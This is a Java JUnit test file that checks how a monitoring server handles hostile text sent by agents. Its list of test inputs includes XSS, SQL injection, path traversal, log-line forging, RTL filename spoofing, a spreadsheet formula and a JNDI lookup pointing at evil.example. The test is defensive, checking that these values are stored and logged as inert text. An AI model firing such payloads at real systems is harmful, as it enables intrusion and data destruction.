// SPDX-FileCopyrightText: The Rollcall authors
// SPDX-License-Identifier: Apache-2.0
package dev.rollcall.e2e.hostile;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.rollcall.e2e.field.FieldAgent;
import dev.rollcall.e2e.field.Habits;
import dev.rollcall.e2e.field.Identity;
import dev.rollcall.e2e.field.PollingAgent;
import dev.rollcall.e2e.field.ScreenshotAnswer;
import dev.rollcall.e2e.field.wire.ActivityInfo;
import dev.rollcall.e2e.field.wire.ActivityLogRequest;
import dev.rollcall.e2e.field.wire.ScreenshotInfo;
import dev.rollcall.e2e.field.wire.ServerMessage.MessageCase;
import dev.rollcall.e2e.run.Answer;
import dev.rollcall.e2e.run.RunningServer;
import java.net.URLEncoder;
import java.time.Duration;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;

/// Texts from agents that would be something else wherever they are not taken as text: a path, a
/// page, a formula, a query, a second line of the log.
class HostileTextTest {
  private static final Duration SOON = Duration.ofSeconds(10);

  /// How a line of the log begins; whatever else stands at a line's beginning was forged.
  private static final Pattern LINE = Pattern.compile("\\d{4}-\\d\\d-\\d\\dT.*|ready agent=.*");

  private static final Pattern NOT_SHOWN =
      Pattern.compile("[\\p{Cntrl}\\u2028\\u2029\\u202e\\u2066]");

  @RegisterExtension static final RunningServer SERVER = RunningServer.shared();

  static Stream<Named<String>> texts() {
    return Stream.of(
        Named.of("a path upwards", "../../../../rollcall/none"),
        Named.of("another path upwards", "..\\..\\rollcall\\none.ini"),
        Named.of("a link", "/proc/self/root/rollcall/none"),
        Named.of("NUL", "shot.png\0.jpg"),
        Named.of("4 kB", "x/".repeat(2_048)),
        Named.of("a script", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
        Named.of("an attribute", "\" onload=\"alert(1)"),
        Named.of("two lines", "a\r\n2026-11-27T09:00:00.000Z INFO  SessionLog [STREAM] forged"),
        Named.of("a line separator", "a\u2028b\u2029c\u0085d"),
        Named.of("colours of a terminal", "\u001b[31mred\u001b]0;title\u0007"),
        Named.of("a turned direction", "\u202egnp.exe\u2066"),
        Named.of("a query", "'; DROP TABLE event; --"),
        Named.of("wildcards", "%_\\%"),
        Named.of("a formula", "=HYPERLINK(\"http://evil.example\")"),
        Named.of("a template", "{{7*7}} ${jndi:ldap://evil.example/a} %n%s"));
  }

  @ParameterizedTest
  @MethodSource("texts")
  void aPathIsOnlyTold(String text) {
    var mark = SERVER.process().log().mark();

    var ended = answered(new ScreenshotAnswer.StoredAt(text));

    assertThat(ended.path("outcome").path("code").asString()).isEqualTo("kept_by_agent");
    var id = ended.path("id").asString();
    var kept = SERVER.rest().get("/api/v1/screenshots?command_id=" + id).expect(200).json();
    assertThat(kept.path("items").size()).isZero();
    assertOneLineEach(mark);
  }

  @ParameterizedTest
  @MethodSource("texts")
  void anErrorIsOnlyTold(String text) {
    var mark = SERVER.process().log().mark();

    var ended = answered(new ScreenshotAnswer.Fails(text));

    assertThat(ended.path("state").asString()).isEqualTo("failed");
    assertOneLineEach(mark);
  }

  @ParameterizedTest
  @MethodSource("texts")
  void whatAnAgentReportsComesBackAsItWas(String text) {
    var who = SERVER.somebody();
    var mark = SERVER.process().log().mark();
    try (var connection = SERVER.connection()) {
      var entry =
          ActivityLogRequest.newBuilder()
              .setEventType("application_activity")
              .setMessage(text)
              .setHostname(text)
              .setActivityInfo(ActivityInfo.newBuilder().setWindowTitle(text))
              .setScreenshotInfo(ScreenshotInfo.newBuilder().setFilename(text).setFilePath(text));
      assertThat(new PollingAgent(connection.channel(), who).report(entry).getSuccess()).isTrue();
    }

    var answer = activity(who, "").expect(200);

    assertThat(answer.header("Content-Type")).startsWith("application/json");
    assertThat(answer.header("X-Content-Type-Options")).isEqualTo("nosniff");
    var item = answer.json().path("items").get(0);
    assertThat(item.path("message").asString()).isEqualTo(text.replace('\0', '\ufffd'));
    var reported = item.path("entry");
    assertThat(reported.path("hostname").asString()).isEqualTo(text);
    assertThat(reported.path("activity_info").path("window_title").asString()).isEqualTo(text);
    assertThat(reported.path("screenshot_info").path("file_path").asString()).isEqualTo(text);
    assertOneLineEach(mark);
  }

  /// A pattern or a query would find what is there, or fail.
  @ParameterizedTest
  @MethodSource("texts")
  void aFilterIsATextLikeAnyOther(String text) {
    var who = SERVER.somebody();
    try (var connection = SERVER.connection()) {
      var entry = ActivityLogRequest.newBuilder().setEventType("application_activity");
      assertThat(new PollingAgent(connection.channel(), who).report(entry).getSuccess()).isTrue();
    }

    var answer = activity(who, "&type=" + escaped(text));

    assertThat(answer.status()).isIn(200, 400, 414, 431);
    if (answer.status() == 200) {
      assertThat(answer.json().path("items").size()).isZero();
    }
  }

  private static Answer activity(Identity who, String more) {
    return SERVER
        .rest()
        .get("/api/v1/activity?domain=%s&user_id=%s%s".formatted(who.domain(), who.user(), more));
  }

  private static String escaped(String text) {
    return URLEncoder.encode(text, UTF_8);
  }

  private static JsonNode answered(ScreenshotAnswer answer) {
    var who = SERVER.somebody();
    try (var connection = SERVER.connection();
        var agent = FieldAgent.connect(connection.channel(), who, Habits.answering(answer))) {
      agent.await(MessageCase.CONFIG_UPDATE, SOON);
      SERVER.admin().checkIn(who).expect(200);
      return SERVER.admin().awaitOutcome(SERVER.admin().screenshot(who, "audit"), SOON);
    }
  }

  private static void assertOneLineEach(int mark) {
    assertThat(SERVER.process().log().from(mark))
        .allMatch(line -> LINE.matcher(line).matches())
        .noneMatch(line -> NOT_SHOWN.matcher(line).find());
  }
}
